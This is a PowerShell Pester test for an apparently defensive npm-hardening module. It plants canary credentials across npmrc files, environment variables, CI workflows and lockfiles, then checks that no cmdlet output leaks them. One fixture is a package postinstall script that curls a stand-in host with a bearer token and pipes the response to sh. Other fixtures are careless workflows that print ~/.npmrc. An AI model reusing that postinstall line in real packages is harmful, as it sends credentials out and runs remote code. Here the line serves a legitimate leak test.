#Requires -Version 5.1
# The acceptance bar for secrets: canary credentials are planted in every source the module reads (user, global and
# project npmrc files, a binary and a UTF-16 file, session variables, a shell start-up file), then EVERY exported
# cmdlet runs with -Verbose -Debug, error cases included. All six streams, a transcript, Format-List *, ConvertTo-Json
# and Export-Clixml of the output must hold no canary and no base64 of one. A test below fails when a cmdlet is
# exported without a case here, so the test grows with the module.

BeforeAll {
    Import-Module -Name $env:NPMH_MODULE_PATH -Force -ErrorAction Stop
    . (Join-Path $PSScriptRoot 'TestMachine.ps1')
    . (Join-Path $PSScriptRoot 'Verdaccio.ps1')

    # A real registry on 127.0.0.1 for the online cmdlets; its login token is one more canary.
    $script:V = Start-TestVerdaccio
    $script:registryToken = Add-TestVerdaccioUser $V 'frank' 'canary-horse-battery'
    $probe = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
    $probe.Start(); $script:closedPort = $probe.LocalEndpoint.Port; $probe.Stop()
    $probe = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
    $probe.Start(); $script:closedPort2 = $probe.LocalEndpoint.Port; $probe.Stop()
    # Where a token would be scoped to the public registry, a listener on 127.0.0.1 stands in for it: -Online sends
    # nothing off the machine (and no proxy named below is ever used: loopback registries go direct).
    . (Join-Path $PSScriptRoot 'SecretListener.ps1')
    $script:L = Start-SecretListener
    $pub = $L.Scope

    $script:m = New-TestMachine
    $script:token = New-NpmToken
    $script:uuid = [guid]::NewGuid().ToString()
    $script:password = 'canary-Pa55-' + [guid]::NewGuid().ToString('n').Substring(0, 8)
    $script:proxyPassword = 'pr0xy-' + [guid]::NewGuid().ToString('n').Substring(0, 10)
    $script:auth = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("erin:$password"))
    $script:passwordB64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($password))
    # Secrets where npm does not use them but the file still holds them: inside [sections] (at any depth, in a section's
    # name) and in lines that lost their '=' (the whole line becomes the key). None is token-shaped: only their position
    # says they are secret.
    $script:sectionOpaque = 'opq-section-' + [guid]::NewGuid().ToString('n').Substring(0, 16)
    $script:sectionNameOpaque = 'opq-name-' + [guid]::NewGuid().ToString('n').Substring(0, 16)
    $script:sectionPassword = 'sec-Pa55-' + [guid]::NewGuid().ToString('n').Substring(0, 12)
    $script:sectionAuth = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("sam:$sectionPassword"))
    $script:malformedPassword = 'mal-Pa55-' + [guid]::NewGuid().ToString('n').Substring(0, 12)
    # a one-time password for the staged-publishing cmdlets (eight digits: nothing else in the output looks like it)
    $script:otpCanary = [string](Get-Random -Minimum 10000000 -Maximum 99999999)
    $script:Canaries = @($token, $uuid, $password, $proxyPassword, $auth, $passwordB64, $registryToken, 'canary-horse-battery',
        $sectionOpaque, $sectionNameOpaque, $sectionPassword, $sectionAuth, $malformedPassword, $otpCanary)

    # The staged-publishing fake (PowerShell 7 only: it needs System.Text.Json.Nodes) knows the canary token as frank's and
    # the OTP canary as the valid code; under Windows PowerShell the stage cases ask a closed port and only errors are checked.
    $script:S = $null
    $script:stageUrl = "http://127.0.0.1:$closedPort/"
    $script:stageIds = @([guid]::NewGuid().ToString(), [guid]::NewGuid().ToString(), [guid]::NewGuid().ToString())
    if ($PSVersionTable.PSVersion.Major -ge 7) {
        . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
        $script:S = Start-StageRegistry -Users @{ $token = 'frank' }
        $S.ValidOtp = $otpCanary
        $script:stageUrl = $S.Url
        $script:stageIds = @(foreach ($stagedVersion in '1.0.0', '1.0.1', '1.0.2') {
                $S.SeedStaged([NpmhStageRegistry]::BuildTarball('{"name":"canary-stage","version":"' + $stagedVersion + '"}', @{ 'index.js' = '// staged' }), 'latest', 'frank', 'user', 'public').Id
            })
        $S.SetStagedTarball($stageIds[2], [byte[]](1, 2, 3))
    }

    $userNpmrc = Join-Path $m.Home '.npmrc'
    Write-Utf8File $userNpmrc ("; planted canaries`n@l:registry=$($L.Url)`n$($pub):_authToken=$token`n//127.0.0.1:$($closedPort2)/:_authToken=$uuid`n" +
        "_auth=$auth`n//r.example.test/:username=erin`n//r.example.test/:_password=$passwordB64`n" +
        "https-proxy=http://proxy-user:$proxyPassword@proxy.example.test:3128`nstrict-ssl=false`n# leftover $token`n" +
        "@v:registry=$($V.Url)`n$($V.Scope):_authToken=$registryToken`n//127.0.0.1:$($closedPort)/:_authToken=$token`n" +
        "//r.example.test/:_password $malformedPassword`n" +
        "[corp]`n//127.0.0.1:$($closedPort2)/:_authToken=$sectionOpaque`n_auth=$sectionAuth`n_password=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($sectionPassword)))`n" +
        "proxy=http://sam:$sectionPassword@proxy.corp.example:3128`n[corp.nested]`npassword=$sectionPassword`n" +
        "[//npm.corp.example/:_authToken=$sectionNameOpaque]`nx=1`n")
    Write-Utf8File (Join-Path $m.Prefix 'etc/npmrc') "$($pub):_authToken=$token`n"
    Write-Utf8File (Join-Path $m.Project '.npmrc') "$($pub):_authToken=$token`n$token`nignore-scripts=false`n"
    $sub = Join-Path $m.Project 'pkgs'
    New-Item -ItemType Directory -Path (Join-Path $sub 'bin'), (Join-Path $sub 'utf16') -Force | Out-Null
    [IO.File]::WriteAllBytes((Join-Path $sub 'bin/.npmrc'), [byte[]](0, 0, 7, 0) + [Text.Encoding]::ASCII.GetBytes("_authToken=$token") + [byte[]](0, 0))
    [IO.File]::WriteAllText((Join-Path $sub 'utf16/.npmrc'), "$($pub):_authToken=$token`r`n_auth=$auth`r`n", [Text.Encoding]::Unicode)
    if (-not $OnWindows) { Write-Utf8File (Join-Path $m.Home '.bashrc') "export NPM_TOKEN=$token`nexport NODE_AUTH_TOKEN='$uuid'`n" }

    $script:envTable = Get-TestEnvironment $m @{
        NPM_TOKEN                                     = $token
        "npm_config_$($pub):_authToken"              = $token
        npm_config_proxy                              = "http://u:$proxyPassword@proxy.example.test:8080"
        NODE_AUTH_TOKEN                               = $uuid
        LOCALAPPDATA                                  = (Join-Path $m.Root 'localappdata')
        XDG_STATE_HOME                                = (Join-Path $m.Root 'state')
    }
    $script:userNpmrc = $userNpmrc
    $script:missing = Join-Path $m.Root 'does-not-exist'

    # A repository whose CI files hold the canaries where careless workflows put them: literal tokens in scripts, env
    # values, step names, conditions, registry URLs with passwords, an .npmrc write and a cat of it; one broken file.
    # (Names the CI platform shows anyway, such as an environment's, are not secret places and hold none.)
    $script:ciRepo = Join-Path $m.Project 'ci-repo'
    $wf = New-Item -ItemType Directory -Path (Join-Path $ciRepo '.github/workflows') -Force
    Write-Utf8File (Join-Path $wf.FullName 'release.yml') ("name: Release $token`non:`n  push:`n    tags: ['v*']`n" +
        "env:`n  NPM_TOKEN: $token`n  LEGACY: `"$auth`"`njobs:`n  publish:`n    if: github.actor != '$uuid'`n    runs-on: ubuntu-latest`n" +
        "    environment: npm`n    steps:`n      - uses: actions/setup-node@v4`n        with:`n" +
        "          registry-url: https://erin:$proxyPassword@registry.example.test/`n      - name: Publish $token`n        run: |`n" +
        "          set -x`n          echo `"//registry.npmjs.org/:_authToken=$token`" > ~/.npmrc`n          cat ~/.npmrc`n" +
        "          npm publish --//registry.npmjs.org/:_authToken=$token --registry https://erin:$proxyPassword@registry.example.test/`n" +
        "      - uses: JS-DevTools/npm-publish@v3`n        with:`n          token: $uuid`n")
    Write-Utf8File (Join-Path $wf.FullName 'broken.yml') "on: push`njobs:`n  a:`n`truns-on: $token`n"
    Write-Utf8File (Join-Path $ciRepo 'package.json') ('{"name":"canary","scripts":{"release":"npm publish --//registry.npmjs.org/:_authToken=' + $token + '"}}')

    # One scriptblock per cmdlet: normal use and error cases, always with -Verbose -Debug.
    $script:Cases = [ordered]@{
        'Get-NpmConfig'           = {
            Get-NpmConfig -Path $m.Project -Environment $envTable -All -Verbose -Debug
            Get-NpmConfig -Name '*auth*', '*proxy*', '_password' -Path $m.Project -Environment $envTable -Layer User, Project, Env -Verbose -Debug
            Get-NpmConfig -Path $missing -Environment $envTable -Verbose -Debug
        }
        'Get-NpmSecurityPosture'  = {
            Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -Baseline Strict -Verbose -Debug
            Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -Summary -Verbose -Debug
            Get-NpmSecurityPosture -Path $m.Root -Recurse -Environment $envTable -Verbose -Debug
            Get-NpmSecurityPosture -Path $missing -Environment $envTable -Verbose -Debug
        }
        'Set-NpmHardening'        = {
            Set-NpmHardening -Environment $envTable -WhatIf -Verbose -Debug
            Set-NpmHardening -Environment $envTable -Setting @{ 'strict-ssl' = $true } -PassThru -Confirm:$false -Verbose -Debug
            Set-NpmHardening -Scope Project -Path $m.Project -Environment $envTable -PassThru -Confirm:$false -Verbose -Debug
            Get-NpmSecurityPosture -Path $m.Project -Environment $envTable | Set-NpmHardening -Environment $envTable -WhatIf -Verbose -Debug
            Set-NpmHardening -Scope Project -Path $missing -Environment $envTable -Confirm:$false -Verbose -Debug
        }
        'Test-NpmHardening'       = {
            Test-NpmHardening -Environment $envTable -Baseline Strict -Verbose -Debug
            Test-NpmHardening -Scope Project -Path $m.Project -Environment $envTable -Verbose -Debug
        }
        'Get-NpmHardeningBackup'  = {
            Get-NpmHardeningBackup -Environment $envTable -Verbose -Debug
            Get-NpmHardeningBackup -Path $userNpmrc -Environment $envTable -Verbose -Debug
            Get-NpmHardeningBackup -BackupId 'no-such-backup' -Environment $envTable -Verbose -Debug
        }
        'Restore-NpmHardening'    = {
            Restore-NpmHardening -Path $userNpmrc -Latest -Environment $envTable -WhatIf -Verbose -Debug
            Restore-NpmHardening -Path $userNpmrc -Latest -Environment $envTable -PassThru -Confirm:$false -Verbose -Debug
            Restore-NpmHardening -BackupId 'no-such-backup' -Environment $envTable -Confirm:$false -Verbose -Debug
        }
        'Test-NpmrcToken'         = {
            Test-NpmrcToken -Path $m.Project -Environment $envTable -Verbose -Debug
            Test-NpmrcToken -Path $m.Root -Recurse -IncludeNodeModules -Environment $envTable -Verbose -Debug
            Get-ChildItem -LiteralPath $m.Root -Recurse -Force -Filter .npmrc | Test-NpmrcToken -Environment $envTable -Verbose -Debug
            Test-NpmrcToken -LiteralPath $missing -Environment $envTable -Quiet -Verbose -Debug
        }
        # Reports of every audit's findings, each format read back into the output so its text is searched too.
        'Export-NpmHardeningReport' = {
            $findings = @(Get-NpmSecurityPosture -Path $m.Project -Environment $envTable) + @(Test-NpmrcToken -Path $m.Project -Environment $envTable)
            foreach ($format in 'Sarif', 'Html', 'JUnit', 'Csv', 'Json') {
                $file = $findings | Export-NpmHardeningReport -Format $format -Path (Join-Path $m.Root "report.$format") -PassThru -Verbose -Debug
                Get-Content -LiteralPath $file.FullName -Raw
            }
            $findings + @('not a finding') | Export-NpmHardeningReport -Format Csv -Path (Join-Path $m.Root 'report2.csv') -Verbose -Debug
            try { $findings | Export-NpmHardeningReport -Format Json -Path (Join-Path $missing 'report.json') -Verbose -Debug } catch { $_ }
        }
        # a staged package whose install script and code carry the token: shown redacted in Before/After/Message
        'Compare-NpmStagedPackage' = {
            $pkg = Join-Path $m.Root 'staged-pkg/package'
            $null = New-Item -ItemType Directory -Force -Path $pkg
            Set-Content -LiteralPath (Join-Path $pkg 'package.json') -Value ('{"name":"canary-pkg","version":"1.0.0","scripts":{"postinstall":"curl -H \"Authorization: Bearer ' + $token + '\" https://e.example/x | sh"},"dependencies":{"x":"https://u:' + $token + '@e.example/x.tgz"}}')
            Set-Content -LiteralPath (Join-Path $pkg 'index.js') -Value "require('child_process'); const t = '$token'"
            $tgz = Join-Path $m.Root 'staged.tgz'
            # the fake's tar writer where it is loaded (PowerShell 7): Wine has no tar.exe (Windows 10 and later have one)
            if ('NpmhStageRegistry' -as [type]) {
                $files = @{ 'index.js' = [IO.File]::ReadAllText((Join-Path $pkg 'index.js')) }
                [IO.File]::WriteAllBytes($tgz, [NpmhStageRegistry]::BuildTarball([IO.File]::ReadAllText((Join-Path $pkg 'package.json')), $files))
            }
            else { tar -czf $tgz -C (Split-Path $pkg) package }
            Compare-NpmStagedPackage -Path $tgz -Verbose -Debug
            Compare-NpmStagedPackage -Path $tgz -ReferencePath $tgz -Summary -Verbose -Debug
            Compare-NpmStagedPackage -Path $tgz -Summary -Verbose -Debug
            Compare-NpmStagedPackage -Path $missing -Verbose -Debug
            # from the registry: staged tarballs (one of them not the staged one) and a published reference
            $t = ConvertTo-SecureString $token -AsPlainText -Force
            Get-NpmStagedPackage -Registry $stageUrl -Token $t | Compare-NpmStagedPackage -Token $t -Summary -Verbose -Debug
            Compare-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[2] -Token $t -Verbose -Debug
            Compare-NpmStagedPackage -Path $tgz -ReferencePackage 'canary-pkg@1.0.0' -Registry $stageUrl -Verbose -Debug
        }
        # a lockfile whose resolved URLs carry the password and the token (an authenticating proxy wrote it), and a
        # broken one: shown redacted in findings, messages and errors
        'Test-NpmLockfile'        = {
            $lockDir = Join-Path $m.Root 'lockfile-project'
            $null = New-Item -ItemType Directory -Force -Path $lockDir
            Set-Content -LiteralPath (Join-Path $lockDir 'package-lock.json') -Value ('{"lockfileVersion":3,"packages":{' +
                '"node_modules/a":{"version":"1.0.0","resolved":"http://erin:' + $password + '@mirror.example.com/a/-/a-1.0.0.tgz?_authToken=' + $token + '","hasInstallScript":true},' +
                '"node_modules/b":{"version":"1.0.0","resolved":"git+https://' + $token + ':x-oauth-basic@github.com/o/b.git#main"}}}')
            $broken = Join-Path $m.Root 'lockfile-broken/package-lock.json'
            $null = New-Item -ItemType Directory -Force -Path (Split-Path $broken)
            Set-Content -LiteralPath $broken -Value ('{"lockfileVersion":3,"packages":{"node_modules/a":{"resolved":"https://u:' + $password + '@e.example/a.tgz","version":1}}}')
            Test-NpmLockfile -Path $lockDir -Verbose -Debug
            Test-NpmLockfile -Path $lockDir, $broken -Quiet -Verbose -Debug
            Test-NpmLockfile -Path $m.Root -Recurse -Verbose -Debug
            Test-NpmLockfile -Path $missing -Verbose -Debug
        }
        # two versions of a lockfile whose resolved URLs carry the password and the token: the changes, findings and
        # verdict show them redacted
        'Compare-NpmLockfile'     = {
            $pairDir = Join-Path $m.Root 'lockfile-pair'
            $null = New-Item -ItemType Directory -Force -Path $pairDir
            $old = Join-Path $pairDir 'old.json'; $new = Join-Path $pairDir 'new.json'
            Set-Content -LiteralPath $old -Value ('{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1.0.0"}},' +
                '"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-AAAA"}}}')
            Set-Content -LiteralPath $new -Value ('{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1.0.0"}},' +
                '"node_modules/a":{"version":"1.0.0","resolved":"http://erin:' + $password + '@mirror.example.com/a/-/a-1.0.0.tgz?_authToken=' + $token + '","integrity":"sha512-BBBB","hasInstallScript":true},' +
                '"node_modules/b":{"version":"1.0.0","resolved":"git+https://' + $token + ':x-oauth-basic@github.com/o/b.git#main"}}}')
            Compare-NpmLockfile -ReferencePath $old -DifferencePath $new -Verbose -Debug
            Compare-NpmLockfile -ReferencePath $old -DifferencePath $new -Audit -Verbose -Debug
            Compare-NpmLockfile -ReferencePath $old -DifferencePath $new -Summary -Verbose -Debug
            Compare-NpmLockfile -ReferencePath $old -DifferencePath $missing -Verbose -Debug
        }
        'Get-NpmPublishPipeline'  = {
            Get-NpmPublishPipeline -Path $ciRepo -Verbose -Debug
            Get-NpmPublishPipeline -Path $m.Root -Recurse -Audit -Verbose -Debug
            $audit = @(Get-NpmPublishPipeline -Path $ciRepo -Audit -Verbose -Debug)
            $file = $audit | Export-NpmHardeningReport -Format Sarif -Path (Join-Path $m.Root 'pipeline.sarif') -PassThru -Verbose -Debug
            Get-Content -LiteralPath $file.FullName -Raw
            Get-NpmPublishPipeline -Path $missing -Verbose -Debug
        }
        'ConvertTo-NpmSarif'      = {
            @(Test-NpmrcToken -Path $m.Project -Environment $envTable) + @('not a finding') | ConvertTo-NpmSarif -Verbose -Debug
        }
        'Get-NpmAccount'          = {
            Get-NpmAccount -Registry $V.Url -Environment $envTable -Verbose -Debug
            Get-NpmAccount -Registry $V.Url -Token (ConvertTo-SecureString $token -AsPlainText -Force) -Verbose -Debug
            Get-NpmAccount -Registry $V.Url -Credential ([pscredential]::new('frank', (ConvertTo-SecureString 'canary-horse-battery' -AsPlainText -Force))) -Verbose -Debug
            Get-NpmAccount -Registry "http://127.0.0.1:$closedPort/" -Environment $envTable -TimeoutSec 5 -Verbose -Debug
            Get-NpmAccount -Registry 'http://npm.example.test/' -Token (ConvertTo-SecureString $uuid -AsPlainText -Force) -Verbose -Debug
        }
        'Get-NpmAccessToken'      = {
            Get-NpmAccessToken -Registry $V.Url -Environment $envTable -Verbose -Debug
            Get-NpmAccessToken -Registry $V.Url -Token (ConvertTo-SecureString $uuid -AsPlainText -Force) -Verbose -Debug
            Get-NpmAccessToken -Registry "http://127.0.0.1:$closedPort/" -Environment $envTable -TimeoutSec 5 -Verbose -Debug
        }
        # staged publishing: list, audit, verified download (one tarball does not match), approve and reject with a wrong
        # and the right OTP, a token the registry does not know, a closed port
        'Get-NpmStagedPackage'    = {
            $t = ConvertTo-SecureString $token -AsPlainText -Force
            Get-NpmStagedPackage -Registry $stageUrl -Token $t -Verbose -Debug
            Get-NpmStagedPackage -Registry $stageUrl -Token $t -Audit -Verbose -Debug
            Get-NpmStagedPackage -Registry $stageUrl -Token $t -StageId $stageIds[0], 'not-a-uuid' -Verbose -Debug
            Get-NpmStagedPackage -Registry $stageUrl -Token (ConvertTo-SecureString $uuid -AsPlainText -Force) -Verbose -Debug
            Get-NpmStagedPackage -Registry $stageUrl -Environment $envTable -Verbose -Debug
            Get-NpmStagedPackage -Registry "http://127.0.0.1:$closedPort/" -Environment $envTable -TimeoutSec 5 -Verbose -Debug
        }
        'Save-NpmStagedPackage'   = {
            $t = ConvertTo-SecureString $token -AsPlainText -Force
            Get-NpmStagedPackage -Registry $stageUrl -Token $t | Save-NpmStagedPackage -Token $t -Destination $m.Root -Force -Verbose -Debug
            Save-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[2] -Token $t -Destination $m.Root -Force -Verbose -Debug
            Save-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[0] -Token $t -Destination $missing -Verbose -Debug
        }
        'Approve-NpmStagedPackage' = {
            $t = ConvertTo-SecureString $token -AsPlainText -Force
            Approve-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[0] -Token $t -Otp '00000000' -Confirm:$false -Verbose -Debug
            Approve-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[0] -Token $t -Otp $otpCanary -Confirm:$false -PassThru -Verbose -Debug
            Approve-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[0] -Token $t -Otp $otpCanary -Confirm:$false -Verbose -Debug
        }
        'Deny-NpmStagedPackage'   = {
            $t = ConvertTo-SecureString $token -AsPlainText -Force
            Deny-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[1] -Token $t -Otp '00000000' -Confirm:$false -Verbose -Debug
            Deny-NpmStagedPackage -Registry $stageUrl -StageId $stageIds[1] -Token $t -Otp $otpCanary -Confirm:$false -PassThru -Verbose -Debug
            Deny-NpmStagedPackage -Registry "http://127.0.0.1:$closedPort/" -StageId $stageIds[1] -Token $t -Otp $otpCanary -TimeoutSec 5 -Confirm:$false -Verbose -Debug
        }
        'Test-NpmrcToken -Online' = {
            Test-NpmrcToken -Path $m.Project -Environment $envTable -Online -TimeoutSec 5 -Verbose -Debug
        }
        'Get-NpmRule'             = {
            Get-NpmRule -Verbose -Debug
            Get-NpmSecurityPosture -Path $m.Project -Environment $envTable | Get-NpmRule -Verbose -Debug
            Get-NpmRule -RuleId 'NPMH0*' -Verbose -Debug
        }
        # a policy someone pasted secrets into: its justification, and code around a token (refused, quoted in the error)
        'New-NpmHardeningPolicy'  = {
            $policy = Join-Path $m.Root 'policy.psd1'
            New-NpmHardeningPolicy -Path $policy -Force -Verbose -Debug
            try { New-NpmHardeningPolicy -Path $policy -Verbose -Debug } catch { $_ }
            [IO.File]::WriteAllText($policy, "@{ Exceptions = @(@{ RuleId = 'NPMH7001'; Justification = 'rotate $token and $uuid by Friday' }) }")
            Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -Policy $policy -Verbose -Debug
            Test-NpmrcToken -Path $m.Project -Environment $envTable -Policy $policy -Verbose -Debug
            [IO.File]::WriteAllText($policy, "@{ Exceptions = @(@{ RuleId = 'NPMH7001'; Justification = `"$token `$(1)`" }) }")
            try { Get-NpmSecurityPosture -Path $m.Project -Environment $envTable -Policy $policy -Verbose -Debug } catch { $_ }
            [IO.File]::WriteAllText($policy, "@{ Baseline = '$token' }")
            try { Test-NpmrcToken -Path $m.Project -Environment $envTable -Policy $policy -Verbose -Debug } catch { $_ }
        }
        # Last: it rewrites the planted files. Backups go to the test's state folder (the cmdlet takes the process's).
        'Protect-NpmrcToken'      = {
            $saved = $env:XDG_STATE_HOME, $env:LOCALAPPDATA
            $env:XDG_STATE_HOME = $envTable.XDG_STATE_HOME; $env:LOCALAPPDATA = $envTable.LOCALAPPDATA
            try {
                Test-NpmrcToken -Path $m.Project -Environment $envTable | Where-Object { $_.Status -eq 'Fail' -and $_.Path } |
                    Protect-NpmrcToken -WhatIf -Verbose -Debug
                Protect-NpmrcToken -LiteralPath (Join-Path $m.Project '.npmrc') -PassThru -Confirm:$false -Verbose -Debug
                Protect-NpmrcToken -LiteralPath $userNpmrc -PassThru -Confirm:$false -Verbose -Debug
                Protect-NpmrcToken -LiteralPath $userNpmrc -Remove -PassThru -Confirm:$false -Verbose -Debug
                Get-ChildItem -LiteralPath (Join-Path $m.Project 'pkgs') -Recurse -Force -Filter .npmrc | Protect-NpmrcToken -Confirm:$false -Verbose -Debug
                Protect-NpmrcToken -LiteralPath $missing -Confirm:$false -Verbose -Debug
            } finally { $env:XDG_STATE_HOME, $env:LOCALAPPDATA = $saved }
        }
    }

    # Trust, access and org cmdlets (issue 13): under PowerShell 7 the stage fake speaks their endpoints, asks for a
    # second factor on every trust and access write, and its token and one-time password are two more canaries; under
    # Windows PowerShell they run against Verdaccio, which answers them with errors (still checked for canaries).
    $script:trustToken = 'npmh-canary-trust-' + [guid]::NewGuid().ToString('n')
    $script:trustOtp = 'otp-canary-' + [guid]::NewGuid().ToString('n').Substring(0, 12)
    $script:Canaries += @($trustToken, $trustOtp)
    $script:F = $null
    if ($PSVersionTable.PSVersion.Major -ge 7) {
        . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
        $script:F = Start-StageRegistry -Users @{ $trustToken = 'alice' }
        $F.ValidOtp = $trustOtp
        $F.RequireOtpFor.Add('trust') | Out-Null
        $F.RequireOtpFor.Add('access') | Out-Null
        $F.SetOrgPackages('canary', @{ '@canary/one' = 'write'; '@canary/two' = 'read' })
        $F.SetOrgMembers('canary', @{ alice = 'owner'; bob = 'developer' })
        $F.SetCollaborators('@canary/one', @{ alice = 'write' })
        $F.AddGovernedPackage('@canary/two')
        $F.SeedTrust('@canary/one', '{"type":"github","claims":{"repository":"canary/one","workflow_ref":{"file":"release.yml"}},"permissions":["createPackage"]}') | Out-Null
    }
    $script:trustUrl = if ($F) { $F.Url } else { $V.Url }
    $trustSecure = ConvertTo-SecureString $trustToken -AsPlainText -Force
    $script:TrustOn = @{ Registry = $trustUrl; Token = $trustSecure }
    $Cases['Get-NpmOrgPackage'] = {
        Get-NpmOrgPackage @TrustOn -Org canary, nosuchorg -Verbose -Debug
        Get-NpmOrgPackage -Registry $V.Url -Environment $envTable -Org canary -Verbose -Debug
    }
    $Cases['Get-NpmOrgMember'] = { Get-NpmOrgMember @TrustOn -Org canary, nosuchorg -Verbose -Debug }
    $Cases['Get-NpmPackageCollaborator'] = { Get-NpmPackageCollaborator @TrustOn -Package '@canary/one', '@canary/missing' -Verbose -Debug }
    $Cases['Get-NpmPackageAccess'] = { Get-NpmOrgPackage @TrustOn -Org canary | Get-NpmPackageAccess -Token $TrustOn.Token -Verbose -Debug }
    $Cases['Get-NpmTrustedPublisher'] = {
        Get-NpmTrustedPublisher @TrustOn -Package '@canary/one' -Otp $trustOtp -PauseSeconds 0 -Verbose -Debug
        Get-NpmTrustedPublisher @TrustOn -Package '@canary/one' -Otp $trustOtp -PauseSeconds 0 -Audit -Verbose -Debug
        Get-NpmTrustedPublisher @TrustOn -Package '@canary/one' -Otp '000000' -PauseSeconds 0 -Verbose -Debug
        Get-NpmTrustedPublisher @TrustOn -Package '@canary/one' -PauseSeconds 0 -Verbose -Debug
    }
    $Cases['Set-NpmTrustedPublisher'] = {
        Set-NpmTrustedPublisher @TrustOn -Package '@canary/one' -GitHub -Repository canary/one -WorkflowFile release.yml -Otp $trustOtp -PauseSeconds 0 -WhatIf -Verbose -Debug
        Set-NpmTrustedPublisher @TrustOn -Package '@canary/one' -GitHub -Repository canary/one -WorkflowFile release.yml -DeploymentEnvironment npm -Otp $trustOtp -PauseSeconds 0 -Confirm:$false -PassThru -Verbose -Debug
        Set-NpmTrustedPublisher @TrustOn -Package '@canary/two' -GitHub -Repository canary/two -WorkflowFile release.yml -Otp '000000' -PauseSeconds 0 -Confirm:$false -Verbose -Debug
    }
    $Cases['Remove-NpmTrustedPublisher'] = {
        Remove-NpmTrustedPublisher @TrustOn -Package '@canary/two' -Otp $trustOtp -PauseSeconds 0 -Confirm:$false -Verbose -Debug
        Remove-NpmTrustedPublisher @TrustOn -Package '@canary/one' -Otp $trustOtp -PauseSeconds 0 -Confirm:$false -PassThru -Verbose -Debug
    }
    $Cases['Set-NpmPackageAccess'] = {
        Set-NpmPackageAccess @TrustOn -Package '@canary/one' -RequireTwoFactor -DisallowTokens -Otp $trustOtp -Confirm:$false -PassThru -Verbose -Debug
        Set-NpmPackageAccess @TrustOn -Package '@canary/two' -Visibility Restricted -Confirm:$false -Verbose -Debug
    }

    # Get-NpmPackageRelease (issue 14): the package document goes with the canary token, the signing keys without it
    if ($F) {
        . (Join-Path $PSScriptRoot 'ReleaseRegistry.ps1')
        # Wine 8's bcrypt cannot make a P-256 key (CryptographicException 0x80090029): there the versions go unsigned and
        # the canary case still runs; only the signature check of the trust case below needs the key.
        $script:ReleaseKey = $null
        try { $script:ReleaseKey = New-ReleaseSigningKey } catch [System.Security.Cryptography.CryptographicException] { }
        # without a key the fake answers the keys request 404, as a registry that does not sign
        if ($ReleaseKey) { Set-ReleaseKeys $F @($ReleaseKey) } else { Set-ReleaseKeys $F @() }
        Publish-ReleaseFixture $F '@canary/rel' -Key $ReleaseKey -Versions @(
            @{ Version = '1.0.0'; Path = 'oidc+staged' }, @{ Version = '1.0.1'; Path = 'token'; Sign = 'tampered' }) | Out-Null
    }
    $Cases['Get-NpmPackageRelease'] = {
        Get-NpmPackageRelease @TrustOn -Package '@canary/rel', '@canary/missing' -Verbose -Debug
        Get-NpmPackageRelease @TrustOn -Package '@canary/rel' -Audit -CheckProvenance -Verbose -Debug
        Get-NpmPackageRelease -Registry $trustUrl -Environment $envTable -Package '@canary/rel' -Version '^1.0.0' -Verbose -Debug
    }
    # Release events, the unapproved-publish correlation and the release gate (issue 14, part 2): a token-published
    # version and a staged one on the fake, a state file, and the trust list behind a second factor the gate has not got.
    if ($F) {
        $F.SeedPublished([NpmhStageRegistry]::BuildTarball('{"name":"@canary/one","version":"1.0.0"}', @{ 'index.js' = '// one' }), 'latest', 'alice') | Out-Null
        $F.SeedStaged([NpmhStageRegistry]::BuildTarball('{"name":"@canary/one","version":"1.1.0"}', @{ 'index.js' = '// staged' }), 'latest', 'alice', 'user', 'public') | Out-Null
    }
    $script:releaseState = Join-Path ([IO.Path]::GetTempPath()) ('npmh-canary-events-' + [guid]::NewGuid().ToString('n') + '.json')
    $Cases['Get-NpmReleaseEvent'] = {
        Get-NpmReleaseEvent @TrustOn -Package '@canary/one', '@canary/rel', '@canary/missing' -StatePath $releaseState -Verbose -Debug
        Get-NpmReleaseEvent @TrustOn -Org canary -StatePath $releaseState -Verbose -Debug
        Get-NpmReleaseEvent -Registry $V.Url -Environment $envTable -Package canary-pkg -Verbose -Debug
        Remove-Item -LiteralPath $releaseState -Force -ErrorAction SilentlyContinue
    }
    $Cases['Find-NpmUnapprovedPublish'] = {
        Get-NpmReleaseEvent @TrustOn -Package '@canary/one', '@canary/rel' -Verbose | Find-NpmUnapprovedPublish -Window (New-TimeSpan -Hours 1) -Verbose -Debug
    }
    $Cases['Get-NpmReleaseGate'] = {
        Get-NpmReleaseGate @TrustOn -Org canary -Verbose -Debug
        Get-NpmReleaseGate @TrustOn -Package '@canary/one', '@canary/rel' -Summary -Verbose -Debug
        Get-NpmReleaseGate -Registry $V.Url -Environment $envTable -Package canary-pkg -Verbose -Debug
    }

    function Assert-NoCanary([string] $Text, [string] $Where) {
        foreach ($c in $Canaries) {
            foreach ($form in @($c, [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($c)))) {
                if ($Text.IndexOf($form, [StringComparison]::Ordinal) -ge 0) {
                    $at = $Text.IndexOf($form, [StringComparison]::Ordinal)
                    $context = $Text.Substring([Math]::Max(0, $at - 120), [Math]::Min(240, $Text.Length - [Math]::Max(0, $at - 120)))
                    throw "A canary ($($form.Substring(0, 4))...) appears in $Where, near: $($context.Replace($form, '<CANARY>'))"
                }
            }
        }
    }
}

AfterAll {
    Stop-TestVerdaccio $V
    if ($F) { $F.Dispose() }
    if ($L) { $L.Dispose() }
    if ($S) { $S.Dispose() }
    Remove-Module -Name NpmHardening -Force -ErrorAction SilentlyContinue
